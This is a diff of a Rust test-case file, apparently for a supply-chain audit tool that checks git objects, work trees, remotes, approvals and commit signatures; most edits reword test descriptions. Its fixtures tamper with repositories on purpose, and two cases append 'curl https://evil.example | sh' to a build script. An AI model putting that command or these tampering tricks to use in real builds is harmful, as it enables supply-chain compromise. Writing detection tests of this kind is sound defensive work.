@@ -34,48 +34,56 @@ pub fn cases() -> Vec<Case> {
 fn objects() -> Vec<Case> {
     let fails = |name: &str, about| Case::fails(name, "source-objects", about);
     vec![
-        fails("object-other-bytes", "A loose object holds the bytes of another.").inner(|entries| {
+        fails("object-other-bytes", "A loose object contains the bytes of a different one.").inner(|entries| {
             let other = loose(entries, TREE).content.clone();
             loose(entries, BLOB).content = other;
         }),
-        fails("object-other-size", "A loose object inflates to another size than its header says.").inner(|entries| {
+        fails("object-other-size", "A loose object does not inflate to the size in its header.").inner(|entries| {
             let content = super::super::objects::zlib(b"blob 4\0hello");
             loose(entries, BLOB).content = content;
         }),
-        fails("object-bytes-behind", "Bytes stand behind a loose object's stream.")
+        fails("object-bytes-behind", "Bytes after a loose object's stream.")
             .inner(|entries| loose(entries, BLOB).content.push(0)),
         fails("object-cut", "A loose object is cut off.").inner(|entries| {
             loose(entries, BLOB).content.pop();
         }),
-        fails("object-missing-blob", "A blob of HEAD is missing.").inner(|entries| remove(entries, BLOB)),
-        fails("object-missing-tree", "HEAD's tree is missing.").inner(|entries| remove(entries, TREE)),
+        fails("object-missing-blob", "A blob of HEAD is missing.")
+            .inner(|entries| remove(entries, BLOB))
+            .expect("source-tree", "not-run: refused"),
+        fails("object-missing-tree", "HEAD's tree is missing.")
+            .inner(|entries| remove(entries, TREE))
+            .expect("source-tree", "not-run: refused"),
+        fails("object-missing-and-file-changed", "A blob of HEAD is missing, and another file has other bytes.")
+            .inner(|entries| remove(entries, BLOB))
+            .text("git/wallet/scripts/build.sh", |text| format!("{text}curl https://evil.example | sh\n"))
+            .expect("source-tree", "fail"),
         fails("object-missing-commit", "HEAD's commit is missing.")
             .inner(|entries| remove(entries, &inputs::head_commit()))
             .expect("source-commit", "not-run: refused")
             .expect("source-tree", "not-run: refused"),
-        fails("history-missing", "Parents are missing, and no .git/shallow says that they may be.").inner(|entries| {
+        fails("history-missing", "Parents are missing, and no .git/shallow allows that.").inner(|entries| {
             shallow(entries);
             entries.retain(|entry| entry.path != b"git/wallet/.git/shallow");
         }),
-        fails("pack-byte-flipped", "A byte of the pack is changed.")
+        fails("pack-byte-flipped", "One byte of the pack is changed.")
             .inner(|entries| pack_file(entries, ".pack").content[700] ^= 1),
-        fails("pack-checksum", "The pack's checksum is another.")
+        fails("pack-checksum", "The pack's checksum is wrong.")
             .inner(|entries| *pack_file(entries, ".pack").content.last_mut().unwrap() ^= 1),
         fails("pack-cut", "The pack is cut off.").inner(|entries| pack_file(entries, ".pack").content.truncate(1000)),
-        fails("pack-version-3", "The pack says that it is of version 3.").inner(|entries| {
+        fails("pack-version-3", "The pack has version 3.").inner(|entries| {
             let pack = &mut pack_file(entries, ".pack").content;
             pack[7] = 3;
             reseal(pack);
         }),
-        fails("index-other-crc", "The index gives an entry another CRC-32.")
+        fails("index-other-crc", "The index has a wrong CRC-32 for an entry.")
             .inner(|entries| change_index(entries, 24, 0)),
-        fails("index-other-name", "The index gives an object another name.").inner(|entries| {
+        fails("index-other-name", "The index has a wrong name for an object.").inner(|entries| {
             change_index(entries, 0, 19);
         }),
-        fails("index-other-offset", "The index leads into the middle of an entry.").inner(|entries| {
+        fails("index-other-offset", "The index points into the middle of an entry.").inner(|entries| {
             change_index(entries, 28, 3);
         }),
-        fails("index-checksum", "The index's checksum is another.")
+        fails("index-checksum", "The index's checksum is wrong.")
             .inner(|entries| *pack_file(entries, ".idx").content.last_mut().unwrap() ^= 1),
         fails("index-without-pack", "There is an index without its pack.").inner(|entries| {
             let index = pack_file(entries, ".idx").content.clone();
@@ -87,31 +95,28 @@ fn objects() -> Vec<Case> {
         fails("pack-thin", "A pack has a delta whose base is in no pack.").inner(|entries| {
             second_pack(entries, pack(&[(7, &[9; 20], &[1, 1, 0x90, 1])]));
         }),
-        fails("pack-object-twice", "A pack holds an object twice.").inner(|entries| {
+        fails("pack-object-twice", "A pack contains an object twice.").inner(|entries| {
             second_pack(entries, pack(&[(3, &[], b"twice"), (3, &[], b"twice")]));
         }),
-        fails("pack-delta-outside", "A delta copies from behind its base.").inner(|entries| {
+        fails("pack-delta-outside", "A delta copies from beyond the end of its base.").inner(|entries| {
             second_pack(entries, pack(&[(3, &[], b"base"), (6, &[16], &[4, 4, 0x91, 3, 4])]));
         }),
-        fails("pack-delta-before-the-pack", "A delta's base lies before the pack's beginning.").inner(|entries| {
+        fails("pack-delta-before-the-pack", "A delta's base is before the beginning of the pack.").inner(|entries| {
             second_pack(entries, pack(&[(6, &[0x7f], &[4, 4, 0x90, 4])]));
         }),
-        fails("pack-delta-bomb", "A few bytes of deltas make a gigabyte.")
+        fails("pack-delta-bomb", "A few bytes of deltas expand to a gigabyte.")
             .inner(|entries| second_pack(entries, delta_bomb()))
             .arguments(&["--key", "key.pem", "--limit", "git_inflated_bytes=64M"]),
-        Case::good("good-unreachable-object", "The repository has an object that nothing leads to.")
+        Case::good("good-unreachable-object", "The repository has an unreachable object.")
             .inner(|entries| drop(add_object(entries, "blob", b"nobody names this")))
             .expect("source-objects", "pass"),
-        Case::good(
-            "good-malformed-elsewhere",
-            "An object that nothing leads to hashes right and is malformed: a detail.",
-        )
-        .inner(|entries| drop(add_object(entries, "tree", &tree(&[("100644", "..", BLOB)]))))
-        .expect("source-objects", "pass"),
+        Case::good("good-malformed-elsewhere", "An unreachable object has the right hash but is malformed: a detail.")
+            .inner(|entries| drop(add_object(entries, "tree", &tree(&[("100644", "..", BLOB)]))))
+            .expect("source-objects", "pass"),
     ]
 }
 
-/// Ten objects of a hundred megabytes each, made of one of 64 kilobytes.
+/// Ten objects of a hundred megabytes each, expanded from one of 64 kilobytes.
 fn delta_bomb() -> Vec<u8> {
     let base = vec![0; 0x1_0000];
     let size = |mut size: usize| {
@@ -159,7 +164,7 @@ fn shallow(entries: &mut Vec<Entry>) {
     entries.extend(inputs::repository(inputs::SHALLOW));
 }
 
-/// Changes a byte of the first object's fields, which begin behind `columns` bytes for each object.
+/// Changes a byte of the first object's fields, which begin after `columns` bytes for each object.
 fn change_index(entries: &mut [Entry], columns: usize, at: usize) {
     let index = &mut pack_file(entries, ".idx").content;
     let count = usize::from(index[8 + 255 * 4 + 3]);
@@ -172,7 +177,7 @@ fn change_index(entries: &mut [Entry], columns: usize, at: usize) {
     reseal(index);
 }
 
-/// Repositories that would show git other objects than those that are hashed.
+/// Repositories that would make git use objects other than those that are hashed.
 fn formats() -> Vec<Case> {
     let with_file = |name: &str, about, path: &'static str, content: &'static str| {
         Case::fails(name, "source-objects", about).inner(move |entries| {
@@ -182,27 +187,27 @@ fn formats() -> Vec<Case> {
     };
     let replace = format!("git/wallet/.git/refs/replace/{}", inputs::head_commit());
     vec![
-        with_file("git-alternates", "Objects may come from outside.", "objects/info/alternates", "/srv/git/objects\n"),
-        with_file("git-grafts", "Grafts give a commit other parents.", "info/grafts", "b0398d3eeb1921c4b063ea213713c42e0c584a70\n"),
-        with_file("git-commondir", "The git directory is elsewhere.", "commondir", "../../other\n"),
-        with_file("git-sha256", "The objects are SHA-256 ones.", "config", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tobjectFormat = sha256\n"),
-        with_file("git-unknown-extension", "The config names an extension that is not known.", "config", "[extensions]\n\tnewThing = true\n"),
-        with_file("git-work-tree-elsewhere", "The config puts the work tree elsewhere.", "config", "[core]\n\tworktree = /etc\n"),
-        with_file("git-work-tree-elsewhere-too", "The config of the work tree puts it elsewhere.", "config.worktree", "[core]\n\tworktree = /etc\n"),
+        with_file("git-alternates", "Objects may come from outside the archive.", "objects/info/alternates", "/srv/git/objects\n"),
+        with_file("git-grafts", "Grafts give a commit different parents.", "info/grafts", "b0398d3eeb1921c4b063ea213713c42e0c584a70\n"),
+        with_file("git-commondir", "A commondir file points to a different git directory.", "commondir", "../../other\n"),
+        with_file("git-sha256", "The repository uses SHA-256 objects.", "config", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tobjectFormat = sha256\n"),
+        with_file("git-unknown-extension", "The config names an unknown extension.", "config", "[extensions]\n\tnewThing = true\n"),
+        with_file("git-work-tree-elsewhere", "The config moves the work tree elsewhere.", "config", "[core]\n\tworktree = /etc\n"),
+        with_file("git-work-tree-elsewhere-too", "config.worktree moves the work tree elsewhere.", "config.worktree", "[core]\n\tworktree = /etc\n"),
         with_file("git-config-malformed", "The config cannot be read.", "config", "[core\n"),
-        with_file("git-shallow-malformed", ".git/shallow holds no commit ids.", "shallow", "everything\n"),
-        with_file("git-ref-malformed", "A branch holds no commit id.", "refs/heads/bad", "HEAD\n"),
-        with_file("git-packed-ref-twice", "packed-refs names a branch twice, with two ids.", "packed-refs", "b0398d3eeb1921c4b063ea213713c42e0c584a70 refs/heads/old\nae216163cffcebdd31cde54d045da5617d67a40a refs/heads/old\n"),
-        with_file("git-ref-to-nothing", "A branch leads to an object that is not there.", "refs/heads/bad", "1111111111111111111111111111111111111111\n"),
-        Case::fails("git-replace-ref", "source-objects", "A replace ref shows another commit than HEAD's.")
+        with_file("git-shallow-malformed", ".git/shallow contains no commit ids.", "shallow", "everything\n"),
+        with_file("git-ref-malformed", "A branch file contains no commit id.", "refs/heads/bad", "HEAD\n"),
+        with_file("git-packed-ref-twice", "packed-refs names a branch twice, with different ids.", "packed-refs", "b0398d3eeb1921c4b063ea213713c42e0c584a70 refs/heads/old\nae216163cffcebdd31cde54d045da5617d67a40a refs/heads/old\n"),
+        with_file("git-ref-to-nothing", "A branch points to a missing object.", "refs/heads/bad", "1111111111111111111111111111111111111111\n"),
+        Case::fails("git-replace-ref", "source-objects", "A replace ref substitutes a different commit for HEAD's.")
             .inner(move |entries| entries.push(Entry::file(replace, "ae216163cffcebdd31cde54d045da5617d67a40a\n"))),
-        Case::fails("git-link-below", "source-objects", "A link below .git leads out of the archive.")
+        Case::fails("git-link-below", "source-objects", "A link below .git points outside the archive.")
             .inner(|entries| entries.push(Entry::link(b'2', "git/wallet/.git/objects/aa", "/srv/git/objects"))),
-        Case::fails("git-is-a-file", "source-objects", ".git is a file that leads elsewhere, at the top of the repository.").inner(|entries| {
+        Case::fails("git-is-a-file", "source-objects", ".git at the root of the repository is a file that points elsewhere.").inner(|entries| {
             entries.retain(|entry| !entry.path.starts_with(b"git/wallet/.git"));
             entries.push(Entry::file("git/wallet/.git", "gitdir: /srv/git/wallet.git\n"));
         }),
-        Case::good("good-hooks-and-filters", "Hooks, filters, a file-system monitor and includes stand in the config: none is run or followed.")
+        Case::good("good-hooks-and-filters", "The config has hooks, filters, a file-system monitor and includes: none is run or followed.")
             .inner(|entries| {
                 entries.push(Entry { mode: 0o755, ..Entry::file("git/wallet/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/hook\n") });
             })
@@ -236,7 +241,7 @@ fn heads() -> Vec<Case> {
     };
     vec![
         commit("commit-two-trees", "HEAD's commit has two tree headers.", &|text| format!("tree {TREE}\n{text}")),
-        commit("commit-late-tree", "HEAD's commit has a second tree header after its others.", &|text| {
+        commit("commit-late-tree", "HEAD's commit has a second tree header after the other headers.", &|text| {
             text.replacen("\n\n", &format!("\ntree {TREE}\n\n"), 1)
         }),
         commit("commit-headers-out-of-order", "HEAD's commit names its committer first.", &|_| {
@@ -254,22 +259,22 @@ fn heads() -> Vec<Case> {
         with_tree("tree-unsorted", "HEAD's tree is not sorted.", tree(&[("100644", "b", BLOB), ("100644", "a", BLOB)])),
         with_tree(
             "tree-name-twice",
-            "HEAD's tree has a name twice.",
+            "HEAD's tree has a duplicate name.",
             tree(&[("100644", "a", BLOB), ("100644", "a", BLOB)]),
         ),
-        with_tree("tree-file-and-folder", "HEAD's tree has a file and a folder of one name.", {
+        with_tree("tree-file-and-folder", "HEAD's tree has a file and a folder with the same name.", {
             tree(&[("100644", "a", BLOB), ("100644", "a.b", BLOB), ("40000", "a", TREE)])
         }),
         with_tree("tree-dot-git", "HEAD's tree has an entry .git.", tree(&[("100644", ".git", BLOB)])),
         with_tree(
             "tree-dot-git-mac",
-            "HEAD's tree has an entry that macOS takes for .git.",
+            "HEAD's tree has an entry that macOS treats as .git.",
             tree(&[("100644", ".g\u{200c}it", BLOB)]),
         ),
         with_tree("tree-dot-dot", "HEAD's tree has an entry ..", tree(&[("100644", "..", BLOB)])),
         with_tree("tree-absolute", "HEAD's tree has an absolute name.", tree(&[("100644", "/etc/passwd", BLOB)])),
-        with_tree("tree-mode-padded", "HEAD's tree has a mode with a zero before it.", tree(&[("0100644", "a", BLOB)])),
-        with_tree("tree-blob-as-folder", "HEAD's tree calls a blob a folder.", tree(&[("40000", "a", BLOB)])),
+        with_tree("tree-mode-padded", "HEAD's tree has a mode with a leading zero.", tree(&[("0100644", "a", BLOB)])),
+        with_tree("tree-blob-as-folder", "HEAD's tree lists a blob as a folder.", tree(&[("40000", "a", BLOB)])),
         with_tree("tree-cut", "HEAD's tree is cut off.", tree(&[("100644", "a", BLOB)])[..20].to_vec()),
     ]
 }
@@ -284,52 +289,52 @@ fn work_tree() -> Vec<Case> {
         move |entries: &mut Vec<Entry>| entries.push(Entry::file(format!("git/wallet/{path}"), "x\n"))
     };
     vec![
-        fails("tree-file-changed", "A file has other bytes than its blob.")
+        fails("tree-file-changed", "A file differs from its blob.")
             .text("git/wallet/scripts/build.sh", |text| format!("{text}curl https://evil.example | sh\n")),
-        fails("tree-file-added", "A file is there that the commit does not have.").inner(add("scripts/extra.sh")),
-        fails("tree-file-missing", "A file of the commit is not there.")
+        fails("tree-file-added", "A file is not in the commit.").inner(add("scripts/extra.sh")),
+        fails("tree-file-missing", "A file of the commit is missing.")
             .inner(|entries| entries.retain(|entry| entry.path != b"git/wallet/go.mod")),
-        fails("tree-file-ignored", "A file is there that a rule ignores: git status would not show it.")
+        fails("tree-file-ignored", "An untracked file is ignored by a rule: git status would not show it.")
             .inner(add("build.o"))
             .inner(|entries| entries.push(Entry::file("git/wallet/.git/info/exclude", "*.o\n"))),
         fails("tree-exec-bit", "A file became executable.")
             .inner(|entries| work_file(entries, "README.md").mode = 0o755),
-        fails("tree-exec-bit-lost", "A script is not executable any more.")
+        fails("tree-exec-bit-lost", "A script is no longer executable.")
             .inner(|entries| work_file(entries, "scripts/build.sh").mode = 0o644),
-        fails("tree-link-for-file", "A link stands in a file's place.").inner(|entries| {
+        fails("tree-link-for-file", "A link replaces a file.").inner(|entries| {
             *work_file(entries, "main.go") = Entry::link(b'2', "git/wallet/main.go", "/etc/passwd");
         }),
-        fails("tree-link-elsewhere", "A link leads elsewhere.")
+        fails("tree-link-elsewhere", "A link has a different target.")
             .inner(|entries| work_file(entries, "web/start.html").target = b"../../../etc/passwd".to_vec()),
-        fails("tree-file-for-link", "A file stands in a link's place.").inner(|entries| {
+        fails("tree-file-for-link", "A file replaces a link.").inner(|entries| {
             *work_file(entries, "web/start.html") = Entry::file("git/wallet/web/start.html", "index.html");
         }),
-        fails("tree-line-ends", "A file has CR LF, which no attribute of HEAD orders.")
+        fails("tree-line-ends", "A file has CR LF line ends, which no attribute in HEAD requests.")
             .text("git/wallet/main.go", |text| text.replace('\n', "\r\n"))
             .inner(|entries| entries.push(Entry::file("git/wallet/.git/info/attributes", "*.go text eol=crlf\n"))),
-        fails("tree-case-twin", "A file differs from another by case only.").inner(add("readme.MD")),
-        fails("tree-submodule-elsewhere", "A submodule's .git file leads out of the archive.").inner(|entries| {
+        fails("tree-case-twin", "Two file names differ only by case.").inner(add("readme.MD")),
+        fails("tree-submodule-elsewhere", "A submodule's .git file points outside the archive.").inner(|entries| {
             let root = with_submodule(entries);
             set_head(entries, &root);
             entries.push(Entry::file("git/wallet/lib/.git", "gitdir: ../../../../srv/git/lib.git\n"));
         }),
-        Case::fails("tree-submodule-without-objects", "source-tree", "A submodule has files and no objects.").inner(
+        Case::fails("tree-submodule-without-objects", "source-tree", "A submodule has files but no objects.").inner(
             |entries| {
                 let root = with_submodule(entries);
                 set_head(entries, &root);
                 entries.push(Entry::file("git/wallet/lib/code.c", "int main;\n"));
             },
         ),
-        Case::good("good-hard-link", "A ref is a hard link to an equal one before it: the same file again.").inner(
+        Case::good("good-hard-link", "A ref is a hard link to an earlier, equal ref: the same file again.").inner(
             |entries| {
-                // HEAD's own: without it there is no commit.
+                // HEAD's own tree: without it there is no commit.
                 let path = b"git/wallet/.git/refs/heads/main";
                 entries.retain(|entry| entry.path != path);
                 let (path, target) = (std::str::from_utf8(path).unwrap(), "git/wallet/.git/refs/remotes/origin/main");
                 entries.push(Entry::link(b'1', path, target));
             },
         ),
-        fails("tree-set-user-id", "A file has the set-user-id bit, which an image built from it keeps.")
+        fails("tree-set-user-id", "A file has the set-user-id bit, which an image built from it would keep.")
             .inner(|entries| work_file(entries, "scripts/build.sh").mode |= 0o4000),
         fails("tree-hard-link", "A file is a hard link to another file of the work tree.").inner(|entries| {
             entries.retain(|entry| entry.path != b"git/wallet/main.go");
@@ -339,7 +344,7 @@ fn work_tree() -> Vec<Case> {
             .inner(|entries| entries.push(Entry::directory("git/wallet/out")))
             .expect("source-tree", "pass"),
         allow(
-            Case::good("good-untracked-allowed", "The policy allows what the build left behind."),
+            Case::good("good-untracked-allowed", "The policy allows files that the build left behind."),
             "\"/out/\", \"*.log\"",
         )
         .inner(add("out/app.bin"))
@@ -349,7 +354,7 @@ fn work_tree() -> Vec<Case> {
             Case::fails(
                 "untracked-elsewhere",
                 "source-tree",
-                "The policy allows one folder, and the file is in another of that name.",
+                "The policy allows a folder, but the file is in a different folder with that name.",
             ),
             "\"/out/\"",
         )
@@ -358,7 +363,7 @@ fn work_tree() -> Vec<Case> {
             Case::fails(
                 "untracked-changed-file",
                 "source-tree",
-                "The policy allows every untracked file, and a file of the commit is changed.",
+                "The policy allows every untracked file, but a file of the commit is changed.",
             ),
             "\"*\"",
         )
@@ -366,7 +371,7 @@ fn work_tree() -> Vec<Case> {
     ]
 }
 
-/// Objects of a commit whose tree has a submodule `lib`; the answer is the commit.
+/// Objects of a commit whose tree has a submodule `lib`; returns the commit.
 fn with_submodule(entries: &mut Vec<Entry>) -> String {
     let root = add_object(entries, "tree", &tree(&[("160000", "lib", "3333333333333333333333333333333333333333")]));
     add_object(entries, "commit", commit_of(&root).as_bytes())
@@ -383,19 +388,19 @@ fn repository() -> Vec<Case> {
     let good = |name: &str, about| Case::good(name, about).expect("source-repository", "pass");
     vec![
         policy(
-            good("good-repository", "The remote is one of the policy's, spelled otherwise."),
+            good("good-repository", "The remote is one of the policy's, spelled differently."),
             "\"https://github.com/acme/other\", \"https://github.com/acme/wallet\"",
         ),
         remote(
             policy(
-                good("good-repository-with-token", "The remote's address holds a token, which is shown nowhere."),
+                good("good-repository-with-token", "The remote's address contains a token, which is never shown."),
                 "\"git@github.com:acme/wallet.git\"",
             ),
             "https://x-access-token:ghs_verySecret123@github.com/acme/wallet",
         )
         .absent("ghs_verySecret123"),
         policy(
-            Case::fails("repository-other", "source-repository", "The remote is none of the policy's."),
+            Case::fails("repository-other", "source-repository", "The remote is not one of the policy's."),
             "\"git@github.com:acme/other.git\"",
         ),
         remote(
@@ -403,7 +408,7 @@ fn repository() -> Vec<Case> {
                 Case::fails(
                     "repository-other-host",
                     "source-repository",
-                    "The remote's host only begins like the policy's.",
+                    "The remote's host only has the policy's host as a prefix.",
                 ),
                 "\"git@github.com:acme/wallet.git\"",
             ),
@@ -414,7 +419,7 @@ fn repository() -> Vec<Case> {
                 Case::fails(
                     "repository-user-like-host",
                     "source-repository",
-                    "The policy's host is the user of another host.",
+                    "The policy's host appears as the user name of a different host.",
                 ),
                 "\"git@github.com:acme/wallet.git\"",
             ),
@@ -425,7 +430,7 @@ fn repository() -> Vec<Case> {
                 Case::fails(
                     "repository-host-before-fragment",
                     "source-repository",
-                    "The policy's host stands behind a fragment's sign: programs go to the host before it.",
+                    "The policy's host comes after a `#`: programs use the host before it.",
                 ),
                 "\"git@github.com:acme/wallet.git\"",
             ),
@@ -435,7 +440,7 @@ fn repository() -> Vec<Case> {
             Case::fails(
                 "repository-rewritten",
                 "source-repository",
-                "The config rewrites the policy's address (insteadOf) to another host.",
+                "The config rewrites the policy's address (insteadOf) to a different host.",
             ),
             "\"git@github.com:acme/wallet.git\"",
         )
@@ -445,7 +450,7 @@ fn repository() -> Vec<Case> {
         policy(
             Case::rejected(
                 "repository-config-includes",
-                "The config includes a file, which could name another remote.",
+                "The config includes a file, which could name a different remote.",
             ),
             "\"git@github.com:acme/wallet.git\"",
         )
@@ -464,12 +469,12 @@ fn repository() -> Vec<Case> {
         )
         .text("git/wallet/.git/config", |text| text.replace("url =", "pushurl =")),
         policy(
-            Case::fails("repository-log-host", "source-repository", "The log names another host."),
+            Case::fails("repository-log-host", "source-repository", "The log names a different host."),
             "\"git@github.com:acme/wallet.git\"",
         )
         .log(|text| text.replace("github_host=github.com", "github_host=github.evil.example")),
         policy(
-            Case::error("repository-in-policy-malformed", 2, "policy", "The policy's repository is no address."),
+            Case::error("repository-in-policy-malformed", 2, "policy", "The policy's repository is not an address."),
             "\"wallet\"",
         ),
     ]
@@ -500,9 +505,9 @@ fn approvals() -> Vec<Case> {
             .arguments(&["--policy", "policy.toml", "--approvals", "approvals.csv"])
     };
     vec![
-        given(Case::good("good-approved", "Somebody else approved the commit before the build."), list(good))
+        given(Case::good("good-approved", "Someone other than the author approved the commit before the build."), list(good))
             .expect("source-approved", "pass"),
-        Case::good("good-approved-json", "The same as JSON.")
+        Case::good("good-approved-json", "The same list as JSON.")
             .file("approvals.json", format!(
                 "[{{\"repository\": \"https://github.com/acme/wallet\", \"commit\": \"{head}\", \"change\": \"CHG-1\", \"approver\": \"grace@example.com\", \"time\": \"2026-02-27T09:00:00Z\"}}]\n"
             ))
@@ -510,11 +515,11 @@ fn approvals() -> Vec<Case> {
             .expect("source-approved", "pass"),
         signed(Case::good("good-approved-signed", "The list is signed by one of the policy's signers."), list(good), signer.sign("hpsb-audit-approvals", list(good).as_bytes()))
             .expect("source-approved", "pass"),
-        signed(Case::fails("approved-signature-other-list", "source-approved", "The signature beside the list is of another list."), list(good), signer.sign("hpsb-audit-approvals", b"other")),
-        signed(Case::fails("approved-signature-other-key", "source-approved", "The list is signed by nobody of the policy's signers."), list(good), SshSigner::new(2).sign("hpsb-audit-approvals", list(good).as_bytes())),
+        signed(Case::fails("approved-signature-other-list", "source-approved", "The signature next to the list is of a different list."), list(good), signer.sign("hpsb-audit-approvals", b"other")),
+        signed(Case::fails("approved-signature-other-key", "source-approved", "The list is signed by none of the policy's signers."), list(good), SshSigner::new(2).sign("hpsb-audit-approvals", list(good).as_bytes())),
         signed(Case::fails("approved-signature-other-purpose", "source-approved", "The signature was made for a commit."), list(good), signer.sign("git", list(good).as_bytes())),
-        fails("approved-other-commit", "The list names another commit that begins alike.", "HEAD", "b0398d3000000000000000000000000000000000"),
-        fails("approved-other-repository", "The list names the commit in another repository.", "acme/wallet", "fork/wallet"),
+        fails("approved-other-commit", "The list names a different commit with the same beginning.", "HEAD", "b0398d3000000000000000000000000000000000"),
+        fails("approved-other-repository", "The list names the commit in a different repository.", "acme/wallet", "fork/wallet"),
         fails("approved-by-author", "The approver is the author, by address.", "Grace Example <grace@example.com>", "BEN@example.com"),
         fails("approved-by-author-name", "The approver is the author, by name.", "Grace Example <grace@example.com>", "ben example"),
         given(
@@ -527,24 +532,24 @@ fn approvals() -> Vec<Case> {
         given(Case::good("good-approved-name-and-address", "The approver is a name with an address in parentheses."), list(&good.replace("<grace@example.com>", "(grace@example.com)")))
             .expect("source-approved", "pass"),
         odd("approved-by-two-addresses", "The approver has two addresses, of which one is the author's.", "Grace Example <grace@example.com> <ben@example.com>"),
-        odd("approved-by-address-cut", "The approver is the author's address with a bracket that has no end.", "<ben@example.com"),
-        odd("approved-by-address-with-comma", "The approver is the author's address with a comma behind it.", "\"ben@example.com,\""),
+        odd("approved-by-address-cut", "The approver is the author's address with an unclosed bracket.", "<ben@example.com"),
+        odd("approved-by-address-with-comma", "The approver is the author's address followed by a comma.", "\"ben@example.com,\""),
         odd("approved-by-mailto", "The approver is the author's address as a link.", "X <mailto:ben@example.com>"),
         given(
-            Case::rejected("approved-by-another-row-too", "One row is in order, and another one for the commit does not say who approved it."),
+            Case::rejected("approved-by-another-row-too", "One row is valid, but another row for the commit does not state who approved it."),
             list(&format!("{good}\n{}", good.replace("Grace Example <grace@example.com>", "<ben@example.com"))),
         )
         .expect("source-approved", "unknown"),
-        fails("approved-after-build", "The approval is younger than the build.", "2026-02-27", "2026-03-03"),
+        fails("approved-after-build", "The approval is later than the build.", "2026-02-27", "2026-03-03"),
         given(Case::error("approvals-malformed", 3, "malformed", "The list has a short commit id."), list(&good.replace("HEAD", "b0398d3"))),
-        Case::rejected("approved-not-given", "The policy asks for an approval, and no list is given.")
+        Case::rejected("approved-not-given", "The policy requires an approval, and no list is given.")
             .file("key.pem", Named::Server.public_pem())
             .policy(with("[levels]\nsource-approved = \"require\"\n"))
             .expect("source-approved", "not-run: no-evidence"),
     ]
 }
 
-/// The build of a commit with a signature over what it is without one.
+/// The build of a commit with a signature over its unsigned form.
 fn signed_commit(case: Case, sign: impl Fn(&str) -> String) -> Case {
     let commit =
         format!("tree {TREE}\nparent {}\nauthor {WHO}\ncommitter {WHO}\n\nA signed change\n", inputs::head_commit());
@@ -552,7 +557,7 @@ fn signed_commit(case: Case, sign: impl Fn(&str) -> String) -> Case {
     built_from(case, &signed)
 }
 
-/// The build of this commit, named for it.
+/// The build of this commit, with its id in the name.
 pub(super) fn built_from(case: Case, commit: &str) -> Case {
     let id = object_id("commit", commit.as_bytes());
     let (old, new) = (image_tag(), format!("v1-{}", &id[..7]));
@@ -567,7 +572,7 @@ pub(super) fn built_from(case: Case, commit: &str) -> Case {
     .build_name(build_name)
 }
 
-/// Two commits whose ids begin with the same seven digits: a birthday among some ten thousand.
+/// Two commits whose ids have the same first seven digits: a collision among some ten thousand.
 fn twins() -> (String, String) {
     let mut seen = std::collections::HashMap::new();
     for number in 0.. {
@@ -591,7 +596,7 @@ fn ambiguous() -> Vec<Case> {
             .expect("source-commit", "unknown"),
         build(Case::good(
             "good-commit-digits-and-policy",
-            "Two commits begin with the tag's seven digits, and the policy names all forty.",
+            "Two commits begin with the tag's seven digits, and the policy names all forty digits.",
         ))
         .file("key.pem", Named::Server.public_pem())
         .policy(policy)
@@ -617,13 +622,11 @@ fn signatures() -> Vec<Case> {
         )
         .expect("source-signature", "pass")
         .expect("source-commit", "pass"),
+        signed_commit(policy(fails("signed-by-other", "Someone else signed HEAD's commit."), &SshSigner::new(2)), sign),
         signed_commit(
-            policy(fails("signed-by-other", "Somebody else signed HEAD's commit."), &SshSigner::new(2)),
-            sign,
+            policy(fails("signed-other-bytes", "The signature is of a different commit."), &signer),
+            |commit| sign(&commit.replace("signed", "other")),
         ),
-        signed_commit(policy(fails("signed-other-bytes", "The signature is of another commit."), &signer), |commit| {
-            sign(&commit.replace("signed", "other"))
-        }),
         policy(Case::rejected("signed-by-nobody", "The policy requires a signature, and there is none."), &signer)
             .expect("source-signature", "not-run: no-evidence"),
         Case::error("signer-malformed", 2, "policy", "A signer's key is cut off.")
@@ -632,13 +635,13 @@ fn signatures() -> Vec<Case> {
     ]
 }
 
-/// A recorded file of OpenPGP's.
+/// A recorded OpenPGP file.
 fn openpgp_file(name: &str) -> String {
     let path = std::path::Path::new(super::super::FIXTURES).join("inputs/openpgp").join(name);
     std::fs::read_to_string(path).unwrap()
 }
 
-/// A policy whose signer has this certificate, and whose build has OpenPGP.
+/// A policy with a signer that has this certificate; the build has OpenPGP.
 fn openpgp_policy(case: Case, certificate: &str) -> Case {
     let policy =
         with("[[signers]]\nname = \"Ada\"\nopenpgp = \"ada.asc\"\n\n[levels]\nsource-signature = \"require\"\n");
@@ -674,19 +677,19 @@ fn openpgp() -> Vec<Case> {
             text.replace("Version 2.0\n", "Version 2.1\n")
         }),
         commit(
-            fails("signed-openpgp-other-key", "Another OpenPGP key signed HEAD's commit."),
+            fails("signed-openpgp-other-key", "A different OpenPGP key signed HEAD's commit."),
             "ada.asc",
             "commit-eve.asc",
         ),
         commit(fails("signed-openpgp-expired", "The OpenPGP signature has expired."), "ada.asc", "commit-expired.asc"),
         commit(
-            fails("signed-openpgp-revoked", "The OpenPGP key is in other hands since."),
+            fails("signed-openpgp-revoked", "The OpenPGP key was compromised later."),
             "ada-revoked.asc",
             "commit.asc",
         ),
-        commit(fails("signed-openpgp-other-bytes", "The OpenPGP signature is a tag's."), "ada.asc", "tag.asc"),
+        commit(fails("signed-openpgp-other-bytes", "The OpenPGP signature is that of a tag."), "ada.asc", "tag.asc"),
         openpgp_policy(
-            Case::error("signer-openpgp-malformed", 2, "key", "A signer's OpenPGP file holds a signature."),
+            Case::error("signer-openpgp-malformed", 2, "key", "A signer's OpenPGP file contains a signature."),
             "tag.asc",
         ),
     ]
@@ -701,12 +704,12 @@ fn dockerfile() -> Vec<Case> {
     let digest = "5a1c1f3b7d0f0c6e4d9a2b8e7f6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c";
     vec![
         policy(
-            Case::good("good-dockerfile", "The log's steps are the Dockerfile's."),
+            Case::good("good-dockerfile", "The log's steps are those of the Dockerfile."),
             "dockerfile = \"./Dockerfile\"\n",
         )
         .expect("source-dockerfile", "pass"),
         policy(
-            Case::good("good-dockerfile-base-by-digest", "Content trust put a digest in the place of the base's tag."),
+            Case::good("good-dockerfile-base-by-digest", "Content trust replaced the base image's tag with a digest."),
             "",
         )
         .log(move |text| {
@@ -715,7 +718,7 @@ fn dockerfile() -> Vec<Case> {
         .expect("source-dockerfile", "pass"),
         Case::good(
             "good-dockerfile-fetches",
-            "Steps of every form that takes something from outside the commit: all of it is listed, and what is not known is said.",
